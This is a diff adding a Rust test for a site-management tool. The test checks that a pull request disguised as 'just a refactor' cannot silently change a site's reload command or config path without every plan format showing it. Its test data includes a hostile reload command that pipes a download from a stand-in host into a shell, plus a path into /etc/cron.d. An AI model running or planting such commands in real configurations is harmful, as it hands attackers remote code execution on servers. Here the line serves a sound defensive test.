@@ -236,3 +236,63 @@ fn plan_out_json_is_a_saved_plan() {
         Some("DENY")
     );
 }
+
+/// A pull request that changes only how a site is managed (issue #16): nothing live changes,
+/// yet every plan format shows the changed commands and paths.
+#[test]
+fn changes_to_how_a_site_is_managed_are_shown() {
+    let f = Fleet::start(&["a.test"]);
+    f.site("a.test", "auto", "headers:\n  X-Frame-Options: DENY\n");
+    f.repo.commit_all("managed by nginx");
+    f.repo.run(&["apply"]).expect_code(0);
+    let yaml = std::fs::read_to_string(f.repo.path().join("sites/a.test.yaml")).expect("site");
+    let reload = f.nginx.command("-s reload");
+    let hostile = yaml
+        .replace(&reload, "sh -c 'curl https://evil.example/x | sh'")
+        .replace(
+            &f.include("a.test").display().to_string(),
+            "/etc/cron.d/siteward-never-written",
+        );
+    assert_ne!(hostile, yaml);
+    f.repo.write("sites/a.test.yaml", &hostile);
+    f.repo.commit_all("just a refactor");
+
+    let plan = f
+        .repo
+        .run(&["plan", "--changed-since", "HEAD~1", "--format", "json"]);
+    let doc = plan.json();
+    let fields: Vec<&str> = doc["sites"][0]["manage_changes"]
+        .as_array()
+        .expect("manage changes in the JSON plan")
+        .iter()
+        .filter_map(|c| c["field"].as_str())
+        .collect();
+    assert_eq!(
+        fields,
+        ["manage.server.config", "manage.server.reload_command"],
+        "{doc}"
+    );
+    assert_eq!(
+        doc["sites"][0]["manage_changes"][1]["after"],
+        "sh -c 'curl https://evil.example/x | sh'"
+    );
+    let md = f
+        .repo
+        .run(&["plan", "--changed-since", "HEAD~1", "--format", "markdown"]);
+    assert!(
+        md.stdout.contains("### Changes to how sites are managed")
+            && md.stdout.contains("manage.server.reload_command"),
+        "{}",
+        md.stdout
+    );
+    let text = f.repo.run(&["plan", "--changed-since", "HEAD~1"]);
+    assert!(
+        text.stdout
+            .contains("how it is managed: manage.server.config: "),
+        "{}",
+        text.stdout
+    );
+    // Without a base revision there is nothing to compare with.
+    let plain = f.repo.run(&["plan", "--format", "json"]).json();
+    assert!(plain["sites"][0].get("manage_changes").is_none(), "{plain}");
+}
